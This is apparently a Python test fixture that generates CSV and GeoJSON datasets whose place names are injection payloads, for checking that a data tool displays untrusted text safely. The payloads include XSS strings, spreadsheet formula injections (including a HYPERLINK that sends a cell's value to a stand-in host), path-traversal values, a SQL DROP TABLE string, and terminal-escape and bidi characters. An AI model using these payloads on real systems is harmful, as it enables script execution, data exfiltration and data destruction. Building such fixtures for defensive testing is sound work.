"""A dataset as an attacker would make it: what its names would do if anything took them for more than text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

HONEST = ("N'Djamena", "Ségou", "العربية", "=Mali", "Kidal & Gao <Nord>")
"""Names that look odd and are not: they must be readable wherever names are shown."""

MARKUP = (
    "<script>window.hacked=1</script>",
    '"><img src=x onerror=window.hacked=2>',
    "</script><svg onload=window.hacked=3>",
    "'-->]]><iframe srcdoc='<script>parent.hacked=4</script>'>",
    '<a href="javascript:window.hacked=5">Gao</a>',
    "<b onmouseover=alert(6)>bold</b><br>",
    "{{ 7 * 7 }}{% for x in y %}${7 * 7}%{x}",
    "[link=http://planted.invalid]rich[/link]",
)
FORMULAS = (
    '=HYPERLINK("http://planted.invalid/?"&A1,"Gao")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Gao;=1+cmd|' /C calc'!A0",
)
PATHS = ("../../../planted", "/etc/passwd", "..\\..\\planted", "C:\\planted", "CON")
SQL = ("'; DROP TABLE issue; --",)
ACTING = (
    "\x1b]0;owned\x07\x1b[31mescape",
    "line\r\nError: faked",
    "\u202egpj.backwards",
    "\u2066isolate\u2069\u202d",
    "c1\x9b31m\x85next\u2028line",
    "\u200fmarked\u200f",
)

REGIONS = (*HONEST, *MARKUP, *FORMULAS, *PATHS, *SQL, *ACTING)

CANARY = "planted.invalid"
"""A host that does not exist (RFC 6761): a request to it would be the attacker's."""

FORBIDDEN = ("\x1b", "\x07", "\x9b", "\r", "\x85", "\u2028", "\u2029", "\u202d", "\u202e", "\u2066", "\u2069")
"""What no output for people may have: it would act on a terminal, or turn text around."""

TEN_MEGABYTES = 10 * 2**20


def events(weeks: int = 40, first: str = "2023-01-07", big: bool = True) -> bytes:
    """Return a CSV file of events of which every text is malicious, one of them of ten megabytes."""
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(8)
    text = io.StringIO()
    table = csv.writer(text)
    table.writerow(
        ["event_id", "date", "country", "admin1", "location", "latitude", "longitude", "event_type", "notes"]
    )
    start, number = pd.Timestamp(first), 0
    for week in range(weeks):
        for column, name in enumerate(REGIONS):
            for _ in range(max(int(rng.poisson(0.4)), int(week in {0, weeks - 1}))):
                number += 1
                day = start + pd.Timedelta(days=7 * week + (6 if week == weeks - 1 else 0))
                where = (f"{rng.uniform(0.1, 0.9):.3f}", f"{column + rng.uniform(0.1, 0.9):.3f}")
                notes = "N" * TEN_MEGABYTES if big and number == 5 else name
                identity = f"{number}{name[:3]}"
                table.writerow([identity, f"{day:%Y-%m-%d}", name, name, name, *where, name, notes])
    return text.getvalue().encode()


def polygons() -> str:
    """Return a GeoJSON file of a row of squares with malicious names."""

    def square(column: int, name: str) -> dict[str, object]:
        ring = [[column, 0], [column + 1, 0], [column + 1, 1], [column, 1], [column, 0]]
        geometry = {"type": "Polygon", "coordinates": [ring]}
        return {"type": "Feature", "properties": {"region": name, "country": name}, "geometry": geometry}

    features = [square(column, name) for column, name in enumerate(REGIONS)]
    return json.dumps({"type": "FeatureCollection", "features": features})


def counts(weeks: int = 40, first: str = "2023-01-07") -> bytes:
    """Return a CSV file of counts of malicious regions."""
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(9)
    text = io.StringIO()
    table = csv.writer(text)
    table.writerow(["week", "region", "events", "notes"])
    for week in pd.date_range(first, periods=weeks, freq="7D"):
        for number, name in enumerate(REGIONS):
            notes = "N" * TEN_MEGABYTES if number == 3 and week == pd.Timestamp(first) else name
            table.writerow([f"{week:%Y-%m-%d}", name, int(rng.poisson(0.6)), notes])
    return text.getvalue().encode()


def acting_in(text: str) -> list[str]:
    """Return what of `FORBIDDEN` a text has."""
    return [f"U+{ord(sign):04X}" for sign in FORBIDDEN if sign in text]


def written_below(folder: Path) -> list[Path]:
    """Return every file below a folder."""
    return sorted(path for path in folder.rglob("*") if path.is_file())
